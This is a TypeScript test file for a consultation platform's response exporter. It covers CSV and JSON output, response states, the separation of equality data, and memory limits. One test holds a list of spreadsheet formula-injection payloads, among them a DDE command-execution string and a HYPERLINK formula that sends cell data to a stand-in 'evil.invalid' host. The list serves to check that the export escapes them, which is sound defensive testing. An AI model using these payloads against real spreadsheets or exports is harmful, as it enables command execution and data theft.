import { createHash, randomUUID } from 'node:crypto'
import { Writable } from 'node:stream'
import type { Answers } from '@takepart/shared/domain/question/answer'
import type {
  Consultation,
  ConsultationVersion,
} from '@takepart/shared/domain/consultation/consultation'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { systemRandom } from '../../context.ts'
import { publish, smallConsultation } from '../../test-support/sample-response.ts'
import { createTestDatabase, type TestDatabase } from '../../test-support/test-database.ts'
import { allVersions } from '../consultation/consultation.queries.ts'
import { exportResponses, type ExportCount, type ExportRequest } from './export-responses.ts'

let database: TestDatabase
beforeAll(async () => {
  database = await createTestDatabase()
})
afterAll(() => database.close())

interface Given {
  answers?: Answers
  state?: 'received' | 'withdrawn' | 'erased'
  late?: boolean
  revision?: number
  version?: number
}

let made = 0
const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'
/** AAAA-0000, AAAA-0001, … */
const reference = (number: number): string =>
  `${[17_576, 676, 26, 1].map((unit) => letters[Math.floor(number / 10_000 / unit) % 26]).join('')}-${String(number % 10_000).padStart(4, '0')}`

async function store(consultation: Consultation, given: Given = {}): Promise<string> {
  const { state = 'received', late = false, revision = 1, version = 1 } = given
  const own = reference((made += 1))
  const hash = (text: string): Buffer => createHash('sha256').update(text).digest()
  const gone = state !== 'received'
  await database.calls
    .insertInto('response')
    .values({
      id: randomUUID(),
      consultation_id: consultation.id,
      version,
      edition: 'standard',
      reference: own,
      code_hash: hash(own),
      revision,
      state,
      late,
      answers: gone ? null : JSON.stringify(given.answers ?? {}),
      content_hash: gone ? null : hash('content'),
      first_hash: gone ? null : hash('first'),
      completed_at: new Date('2027-02-01T10:00:00Z'),
      received_at: new Date('2027-02-01T11:00:00Z'),
    })
    .execute()
  return own
}

interface Exported extends ExportCount {
  readonly text: string
}

async function exported(
  consultation: Consultation,
  request: Partial<ExportRequest> = {},
): Promise<Exported> {
  const parts: Buffer[] = []
  const output = new Writable({
    write: (chunk: Buffer, _encoding, done) => {
      parts.push(chunk)
      done()
    },
  })
  const count = await exportResponses(
    database.calls,
    {
      consultationId: consultation.id,
      versions: await allVersions(database.calls, consultation.id),
      part: 'answers',
      format: 'csv',
      random: systemRandom,
      ...request,
    },
    output,
  )
  return { ...count, text: Buffer.concat(parts).toString() }
}

/** Reads CSV by the book (RFC 4180), which is not how the writer writes it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y
  const source = text.replace(/^\uFEFF/, '').replace(/\r\n$/, '')
  while (cell.lastIndex <= source.length) {
    const [whole, quoted, bare, end] = cell.exec(source) ?? []
    if (whole === undefined) throw new Error(`not CSV at ${cell.lastIndex}`)
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? '')
    if (end === '') return rows
    if (end === '\r\n') rows.push([])
  }
  return rows
}

/** Rows by column key: the key stands in brackets at the end of each heading. */
function byKey(text: string): Record<string, string>[] {
  const [headings = [], ...rows] = readCsv(text)
  const keys = headings.map((heading) => /\[([^\]]+)\]$/.exec(heading)?.[1] ?? heading)
  return rows.map((row) => Object.fromEntries(keys.map((key, index) => [key, row[index] ?? ''])))
}

const published = async (changes: Partial<Consultation> = {}): Promise<Consultation> => {
  const consultation = smallConsultation({ slug: `rooms-${randomUUID()}`, ...changes })
  await publish(database.calls, consultation)
  return consultation
}

describe('exportResponses', () => {
  it('has one row for every response, whatever its state, and counts them beside what is stored', async () => {
    const consultation = await published()
    const how = { kind: 'one-of', choice: 'bus' } as const
    const references = {
      received: await store(consultation, { answers: { how } }),
      late: await store(consultation, { answers: { how }, late: true }),
      changed: await store(consultation, { answers: { how }, revision: 3 }),
      withdrawn: await store(consultation, { state: 'withdrawn', revision: 2 }),
      erased: await store(consultation, { state: 'erased', revision: 2 }),
    }
    const { text, ...count } = await exported(consultation)
    expect(count).toEqual({
      written: 5,
      expected: 5,
      received: 3,
      withdrawn: 1,
      erased: 1,
    })
    const rows = new Map(byKey(text).map((row) => [row['reference'], row]))
    expect(rows.size).toBe(5)
    expect(rows.get(references.erased)).toMatchObject({ state: 'erased', changed: 'no', how: '' })
    const times = {
      finished: '2027-02-01T10:00:00.000Z',
      received: '2027-02-01T11:00:00.000Z',
      version: '1',
      edition: 'standard',
    }
    expect(rows.get(references.received)).toMatchObject({
      state: 'received',
      late: 'no',
      changed: 'no',
      revision: '1',
      how: 'bus',
      'how.label': 'Bus',
      ...times,
    })
    expect(rows.get(references.late)).toMatchObject({ state: 'received', late: 'yes', how: 'bus' })
    expect(rows.get(references.changed)).toMatchObject({
      state: 'received',
      changed: 'yes',
      revision: '3',
      how: 'bus',
    })
    const {
      reference: _reference,
      state,
      late,
      changed,
      revision,
      version,
      edition,
      finished,
      received,
      ...answers
    } = rows.get(references.withdrawn) ?? {}
    expect({ state, late, changed, revision, version, edition, finished, received }).toEqual({
      state: 'withdrawn',
      late: 'no',
      changed: 'no',
      revision: '2',
      ...times,
    })
    expect(Object.values(answers).join('')).toBe('')
  })

  it('has only the headings when there is no response', async () => {
    const { text, written, expected } = await exported(await published())
    expect({ written, expected }).toEqual({ written: 0, expected: 0 })
    expect(readCsv(text)).toHaveLength(1)
  })

  it('has the columns of every version, by question id, in an order that a new version only adds to', async () => {
    const consultation = await published()
    const first = readCsv((await exported(consultation)).text)[0] ?? []
    const [section] = consultation.sections
    const changed: Consultation = {
      ...consultation,
      sections: [
        {
          id: 'rooms',
          title: 'Rooms',
          questions: [
            { id: 'new', kind: 'short-text', title: 'What else?', about: 'what else' },
            {
              id: 'how',
              kind: 'one-of',
              title: 'How do you get here?',
              about: 'how you get here',
              options: [
                { code: 'bus', label: 'By bus' },
                { code: 'tram', label: 'By tram', say: { label: 'Which tram' } },
              ],
            },
          ],
        },
      ],
    }
    await publish(database.calls, changed, 2)
    const answers: Answers = { how: { kind: 'one-of', choice: 'bus' } }
    await store(consultation, {
      answers: { ...answers, words: { kind: 'long-text', text: 'More chairs' } },
    })
    await store(consultation, {
      answers: {
        how: { kind: 'one-of', choice: 'tram', say: { tram: 'Number 3' } },
        new: { kind: 'short-text', text: 'A clock' },
      },
      version: 2,
    })
    const { text } = await exported(consultation)
    const keysOf = (row: readonly string[]) =>
      row.map((heading) => /\[([^\]]+)\]$/.exec(heading)?.[1])
    const keys = keysOf(readCsv(text)[0] ?? [])
    expect(keys.filter((key) => keysOf(first).includes(key))).toEqual(keysOf(first))
    expect(new Set(keys).size).toBe(keys.length)
    expect(section?.questions).toHaveLength(3)
    const rows = byKey(text).toSorted(
      (one, other) => Number(one['version']) - Number(other['version']),
    )
    expect(rows[0]).toMatchObject({
      version: '1',
      how: 'bus',
      'how.label': 'Bus',
      words: 'More chairs',
      new: '',
    })
    expect(rows[1]).toMatchObject({
      version: '2',
      how: 'tram',
      'how.label': 'By tram',
      'how.tram.say': 'Number 3',
      words: '',
      new: 'A clock',
    })
    expect(readCsv(text)[0]).toContain('How you get here [how.label]')
  })

  it('starts no formula, and gives back every word when one apostrophe is taken away', async () => {
    const payloads = [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM',
      ' =1',
      "   =cmd|' /C calc'!A0",
      "'=1",
      '\u00A0=1',
      '\u200B=1',
      '"=1"',
      'a\n=1',
      'a,=1',
      'a;=1',
      '"',
      '""',
      'line one\r\nline two',
      '=HYPERLINK("https://evil.invalid?"&A1)',
      '%0A=1',
      '{{7*7}}',
      '👩‍👩‍👧',
      'عربي',
    ]
    const consultation = await published()
    for (const text of payloads)
      await store(consultation, {
        answers: {
          words: { kind: 'long-text', text },
          how: { kind: 'one-of', choice: 'other', say: { other: text } },
        },
      })
    const { text, written } = await exported(consultation)
    expect(written).toBe(payloads.length)
    const cells = byKey(text).flatMap((row) => [row['words'] ?? '', row['how.other.say'] ?? ''])
    expect(
      cells.filter(
        (cell) => /^['\s\u200B\u00A0]*[=+\-@＝＋－＠]/.test(cell) && !cell.startsWith("'"),
      ),
    ).toEqual([])
    expect(cells.filter((cell) => /^[\t\r]/.test(cell))).toEqual([])
    const kept = cells.map((cell) =>
      /^'['\s\u200B\u00A0]*[=+\-@＝＋－＠]/.test(cell) ? cell.slice(1) : cell,
    )
    for (const payload of payloads)
      expect(
        kept.some(
          (cell) =>
            cell === payload ||
            cell === payload.trim() ||
            cell === payload.trim().replaceAll('\r\n', '\n'),
        ),
        JSON.stringify(payload),
      ).toBe(true)
  })

  it('escapes what an author put in a heading', async () => {
    const consultation = await published({
      sections: [
        {
          id: 'a',
          title: 'A',
          questions: [{ id: 'q', kind: 'short-text', title: 'Q', about: '=1+1' }],
        },
      ],
    })
    expect(readCsv((await exported(consultation)).text)[0]?.at(-1)).toBe("'=1+1 [q]")
  })

  it('keeps negative numbers numbers', async () => {
    const consultation = await published({
      sections: [
        {
          id: 'a',
          title: 'A',
          questions: [
            { id: 'degrees', kind: 'number', title: 'How cold?', about: 'degrees', least: -50 },
            {
              id: 'mood',
              kind: 'number-scale',
              title: 'How was it?',
              about: 'how it was',
              from: -3,
              to: 3,
              fromLabel: 'Bad',
              toLabel: 'Good',
            },
          ],
        },
      ],
    })
    await store(consultation, {
      answers: {
        degrees: { kind: 'number', text: '-12' },
        mood: { kind: 'number-scale', choice: '-3' },
      },
    })
    expect(byKey((await exported(consultation)).text)[0]).toMatchObject({
      degrees: '-12',
      mood: '-3',
    })
  })

  it('goes on when a stored answer is not what anybody expects', async () => {
    const consultation = await published()
    const odd = {
      how: { kind: 'matrix', rows: { a: 'b' } },
      words: { kind: 'long-text', text: 'Kept' },
      gone: { kind: 'short-text', text: 'x' },
    } as unknown as Answers
    await store(consultation, { answers: odd })
    const { text, written } = await exported(consultation)
    expect(written).toBe(1)
    expect(byKey(text)[0]).toMatchObject({ how: '', words: 'Kept' })
  })
})

describe('the equality part', () => {
  const equal = async (): Promise<Consultation> =>
    published({
      sections: [
        {
          id: 'rooms',
          title: 'Rooms',
          questions: [
            {
              id: 'words',
              kind: 'long-text',
              title: 'What should change?',
              about: 'what should change',
            },
          ],
        },
        {
          id: 'you',
          title: 'You',
          purpose: 'equality',
          questions: [
            { id: 'age', kind: 'short-text', title: 'How old are you?', about: 'your age' },
          ],
        },
      ],
    })
  const answers = (number: number): Answers => ({
    words: { kind: 'long-text', text: `words-${number}` },
    age: { kind: 'short-text', text: `age-${number}` },
  })

  it.each(['csv', 'json'] as const)(
    'is kept out of the main export, and the other answers out of it, in %s',
    async (format) => {
      const consultation = await equal()
      const own = await store(consultation, { answers: answers(1) })
      const main = (await exported(consultation, { format })).text
      expect(main).toContain('words-1')
      expect(main).not.toMatch(/age/)
      const apart = (await exported(consultation, { format, part: 'equality' })).text
      expect(apart).toContain('age-1')
      expect(apart).not.toMatch(new RegExp(`words|${own}|2027|received|version|reference`))
    },
  )

  it('has a row for each received response, and none for a withdrawn one', async () => {
    const consultation = await equal()
    for (let number = 0; number < 5; number += 1)
      await store(consultation, { answers: answers(number) })
    await store(consultation, { state: 'withdrawn' })
    expect(await exported(consultation, { part: 'equality' })).toMatchObject({
      written: 5,
      expected: 5,
      received: 5,
      withdrawn: 1,
    })
  })

  it('is in an order of its own, another one each time', async () => {
    const consultation = await equal()
    for (let number = 0; number < 40; number += 1)
      await store(consultation, { answers: answers(number) })
    const orderOf = async (part: ExportRequest['part']): Promise<string> =>
      byKey((await exported(consultation, { part })).text)
        .map((row) => (row['words'] ?? row['age'] ?? '').replace(/\D/g, ''))
        .join(' ')
    const orders = [await orderOf('answers'), await orderOf('equality'), await orderOf('equality')]
    expect(new Set(orders.map((order) => order.split(' ').toSorted().join(' '))).size).toBe(1)
    expect(new Set(orders).size).toBe(3)
  })

  it('holds a question that was about equality in any version, in every version', async () => {
    const consultation = await published({
      sections: [
        {
          id: 'you',
          title: 'You',
          questions: [
            { id: 'age', kind: 'short-text', title: 'How old are you?', about: 'your age' },
            { id: 'words', kind: 'long-text', title: 'What?', about: 'what' },
          ],
        },
      ],
    })
    await publish(
      database.calls,
      {
        ...consultation,
        sections: [
          {
            id: 'rest',
            title: 'Rest',
            questions: [{ id: 'words', kind: 'long-text', title: 'What?', about: 'what' }],
          },
          {
            id: 'you',
            title: 'You',
            purpose: 'equality',
            questions: [
              { id: 'age', kind: 'short-text', title: 'How old are you?', about: 'your age' },
            ],
          },
        ],
      },
      2,
    )
    await store(consultation, { answers: answers(1), version: 1 })
    expect((await exported(consultation)).text).not.toContain('age')
    expect(byKey((await exported(consultation, { part: 'equality' })).text)).toEqual([
      { age: 'age-1' },
    ])
  })
})

describe('the export as JSON', () => {
  it('is one array, with the answers as they were sent and their cells', async () => {
    const consultation = await published()
    const own = await store(consultation, {
      answers: { how: { kind: 'one-of', choice: 'car' } },
      late: true,
    })
    await store(consultation, { state: 'withdrawn' })
    const { text } = await exported(consultation, { format: 'json' })
    const all = JSON.parse(text) as { reference: string }[]
    expect(all).toHaveLength(2)
    expect(all.find((one) => one.reference === own)).toEqual({
      reference: own,
      state: 'received',
      late: true,
      changed: false,
      revision: 1,
      version: 1,
      edition: 'standard',
      finished: '2027-02-01T10:00:00.000Z',
      received: '2027-02-01T11:00:00.000Z',
      answers: { how: { kind: 'one-of', choice: 'car' } },
      cells: { how: 'car', 'how.label': 'Car' },
    })
    expect(all.find((one) => one.reference !== own)).toMatchObject({
      state: 'withdrawn',
      answers: {},
      cells: {},
    })
  })

  it('is an empty array when there is no response', async () => {
    expect(JSON.parse((await exported(await published(), { format: 'json' })).text)).toEqual([])
  })
})

describe('an export of 10,000 responses', () => {
  it('takes less than 64 MB more memory, however slowly it is read', async () => {
    const consultation = await published()
    // A thousand at a time, each of which a slow machine stores within the time that a statement has.
    for (let last = 1000; last <= 10_000; last += 1000) {
      await sql`insert into response (id, consultation_id, version, edition, reference, code_hash, revision, state, late, answers, content_hash, first_hash, completed_at, received_at)
        select gen_random_uuid(), ${consultation.id}, 1, 'standard',
          'Z' || chr(65 + n / 1000 % 26) || chr(65 + n / 100 % 26) || chr(65 + n % 26) || '-' || lpad((n % 10000)::text, 4, '0'),
          sha256(n::text::bytea), 1, 'received', false,
          jsonb_build_object('how', jsonb_build_object('kind', 'one-of', 'choice', 'bus'), 'words', jsonb_build_object('kind', 'long-text', 'text', repeat('Chairs and a clock. ', 100))),
          sha256('c'), sha256('f'), '2027-02-01T10:00:00Z', '2027-02-01T11:00:00Z'
        from generate_series(${last - 999}::integer, ${last}::integer) as n`.execute(database.calls)
    }
    const versions: readonly ConsultationVersion[] = await allVersions(
      database.calls,
      consultation.id,
    )
    let [bytes, most, chunks] = [0, 0, 0]
    const before = process.memoryUsage().rss
    const output = new Writable({
      write: (chunk: Buffer, _encoding, done) => {
        bytes += chunk.length
        chunks += 1
        if (chunks % 50 === 0) most = Math.max(most, process.memoryUsage().rss - before)
        if (chunks % 200 === 0) setTimeout(done, 1)
        else done()
      },
    })
    const count = await exportResponses(
      database.calls,
      {
        consultationId: consultation.id,
        versions,
        part: 'answers',
        format: 'csv',
        random: systemRandom,
      },
      output,
    )
    expect(count).toMatchObject({ written: 10_000, expected: 10_000 })
    expect(bytes).toBeGreaterThan(20_000_000)
    expect(most).toBeLessThan(64 * 1024 * 1024)
  })
})
